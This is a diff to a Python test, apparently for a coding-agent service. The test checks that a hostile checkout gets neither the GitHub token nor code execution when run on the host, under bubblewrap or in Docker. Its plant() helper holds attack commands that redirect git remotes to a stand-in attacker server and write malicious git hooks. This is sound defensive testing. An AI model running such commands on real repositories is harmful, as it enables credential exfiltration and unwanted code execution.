@@ -23,6 +23,7 @@ from tests.support import fake_anthropic as fm
 from tests.support.fake_github import FakeGitHub
 from tests.support.git_http import AttackerServer, GitHttpServer
 from tests.support.repos import git, remote_with_project
+from tests.support.runtimes import require_bwrap, require_docker
 from tests.support.server import Server
 
 STARTER = "You are the starter agent"
@@ -141,7 +142,7 @@ def plant(markers: Path, attacker: AttackerServer) -> str:
 
     hooks = ["pre-push", "post-checkout", "reference-transaction", "post-update", "pre-receive", "pre-commit"]
     lines = [
-        f"mkdir -p {markers} evil-hooks",
+        "mkdir -p evil-hooks",
         f"git remote set-url origin {attacker.url}/x.git",
         f"git remote set-url --push origin {attacker.url}/push.git",
         *(f"printf '#!/bin/sh\\n{mark('hook-' + h)}\\n' > .git/hooks/{h}" for h in hooks),
@@ -160,6 +161,7 @@ def plant(markers: Path, attacker: AttackerServer) -> str:
     return " && ".join(lines)
 
 
+@pytest.mark.parametrize("runtime", ["host", "bwrap", "docker"])
 def test_a_hostile_checkout_gets_neither_the_token_nor_code_run_in_the_service(
     make_server: ServerFactory,
     tmp_path: Path,
@@ -167,9 +169,17 @@ def test_a_hostile_checkout_gets_neither_the_token_nor_code_run_in_the_service(
     git_host: GitHttpServer,
     attacker: AttackerServer,
     fake_model: fm.FakeAnthropic,
+    runtime: str,
 ) -> None:
+    env = {"WORKSPACE_CLEANUP": "on_success"}
+    if runtime == "bwrap":
+        require_bwrap()
+        env["AGENT_SANDBOX"] = "bwrap"
+    if runtime == "docker":
+        env.update(AGENT_RUNTIME="docker", AGENT_IMAGE=require_docker())
     markers = tmp_path / "markers"
-    server = start(make_server, tmp_path, github, git_host, WORKSPACE_CLEANUP="on_success")
+    markers.mkdir()
+    server = start(make_server, tmp_path, github, git_host, **env)
     deploy = bash(
         f"printf 'Deploy with {github.token}\\n' > DEPLOY.md && git add DEPLOY.md && git commit -qm d"
     )
@@ -199,7 +209,7 @@ def test_a_hostile_checkout_gets_neither_the_token_nor_code_run_in_the_service(
 
     workspace = Path(coding["workspace"])
     assert not workspace.exists(), "the workspace was not cleaned up on success"
-    written = sorted(os.listdir(markers)) if markers.exists() else []
+    written = sorted(os.listdir(markers))
     assert written == [], {name: (markers / name).read_text()[:300] for name in written}
     assert_nowhere(server, github.token)
 
